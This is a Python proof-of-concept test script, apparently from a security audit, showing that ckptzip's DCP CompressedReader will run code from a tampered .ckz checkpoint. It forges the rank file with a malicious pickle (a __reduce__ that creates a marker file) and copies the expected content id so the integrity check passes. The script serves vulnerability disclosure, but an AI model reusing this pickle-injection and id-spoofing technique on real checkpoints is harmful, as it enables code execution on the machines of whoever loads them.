"""Loading a DCP checkpoint through ckptzip.dcp.CompressedReader whose rank file (.ckz) has been
replaced: same content-id string copied into the header (the reader compares the stored id with
.metadata's, but never recomputes it), and a bytes item whose bytes are a pickle. README/RELIABILITY:
"Loading a .ckz never runs code from the file". Problem: the marker file appears (DCP's planner calls
torch.load(weights_only=False) on the bytes ckptzip hands it), with .metadata untouched."""
import os, pickle, sys, tempfile, warnings
warnings.filterwarnings("ignore")
import common, ckptzip, torch
import torch.distributed.checkpoint as dcp
from ckptzip.dcp import CompressedReader, CompressedWriter
root = tempfile.mkdtemp(dir="/tmp/hunt41/hostile")
marker = f"{root}/EXECUTED"
class Marker:
    def __reduce__(self):
        return (open, (marker, "w"))
state = {"w": torch.randn(8), "extra": {"epoch": 3}}
dcp.save(state, storage_writer=CompressedWriter(f"{root}/ck", threads=1))
meta_before = open(f"{root}/ck/.metadata", "rb").read()
rank = [f for f in os.listdir(f"{root}/ck") if f.endswith(".ckz")][0]
path = f"{root}/ck/{rank}"
h, data = common.split(open(path, "rb").read())
# find the bytes item and make a new uint8 leaf holding the pickle
import io
buf = io.BytesIO(); torch.save(Marker(), buf); payload = buf.getvalue()  # what DCP's planner torch.load()s
evil_state = {}
with ckptzip.open(path) as c:
    full = c.load()
print("items in the rank file:", {k: type(v).__name__ for k, v in full.items()})
for k, v in full.items():
    evil_state[k] = payload if isinstance(v, bytes) else v
blob = ckptzip.dumps(evil_state, metadata=h.get("metadata"), threads=1)
eh, edata = common.split(blob)
eh["id"] = h["id"]                               # the id .metadata expects, copied as a string
open(path, "wb").write(common.rebuild(eh, edata, fix_id=False))
assert open(f"{root}/ck/.metadata", "rb").read() == meta_before
loaded = {"w": torch.zeros(8), "extra": {"epoch": 0}}
try:
    dcp.load(loaded, storage_reader=CompressedReader(f"{root}/ck"))
    print("dcp.load returned; extra =", loaded.get("extra"))
except BaseException as e:
    print("dcp.load raised", type(e).__name__, str(e).splitlines()[-1][:200])
ran = os.path.exists(marker)
print("marker file created (code from the .ckz ran):", ran)
sys.exit(1 if ran else 0)
